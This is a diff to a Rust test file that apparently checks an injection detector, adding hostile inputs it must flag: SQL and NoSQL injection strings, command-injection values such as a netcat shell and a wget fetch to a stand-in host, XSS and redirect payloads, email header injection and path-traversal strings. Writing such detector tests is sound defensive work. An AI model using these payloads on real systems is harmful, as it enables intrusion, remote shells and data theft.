@@ -371,6 +371,21 @@ fn what_looks_like_talk_is_judged() {
         "; type C:\\windows\\win.ini",
         "' or `id` like `id`-- ",
         "1 or 1%1=0",
+        "1 or true*1=1",
+        "1 or id*0=0",
+        "9) or null|1=1",
+        "1 or true%2==1",
+        "x|wget x.test/a| image:: y",
+        "x|nc x.test 99 -e sh| date:: y",
+        "\";location=\"1\"?name:0;//",
+        "\";1<name\nlocation=\"//x.test\";\"",
+        "p(`whoami`, `x`)",
+        "1;type `web.config",
+        ":a:`whoami`",
+        "{ \"$type\": 2 }",
+        "{ \"$set\": {\"role\": \"admin\"} }",
+        "<?xml ><meta http-equiv=refresh content=\"0;url=//x.test\">?><b>x</b>",
+        "list-all\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nDate: x\r\nMessage-ID: y\r\n\r\n<b>x</b>",
         "' or 5%2=1-- ",
         "<?xml version=\"1.0\"?><a><x onclick=\"alert(1)\">x</x></a>",
         "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
@@ -399,11 +414,22 @@ fn a_long_text_hides_no_way_out() {
         "../../etc/passwd",
         "..\\..\\..\\..\\windows\\win.ini",
         "x/../../../../../a.key",
+        "x/../../../../a b.yml",
     ] {
         for value in [format!("{text}{path}"), format!("{path}\n{text}")] {
             let total = judge_with(&detector, Carrier::FormValue, value.as_bytes()).total();
             assert!(total >= Paranoia::One.threshold(), "{path}");
         }
+    }
+    // Blanks and line breaks make no long text, and blanks inside names no other paths.
+    let blanks = " ".repeat(300);
+    for value in [
+        "../../a b/../../a b/../../a b/../../config/x.yml".to_owned(),
+        format!("../../../../a b/config/x.yml\n{blanks}"),
+        format!("../../../config/x.yml\n{text}"),
+    ] {
+        let total = judge_with(&detector, Carrier::FormValue, value.as_bytes()).total();
+        assert!(total >= Paranoia::One.threshold(), "{value}");
     }
 }
 
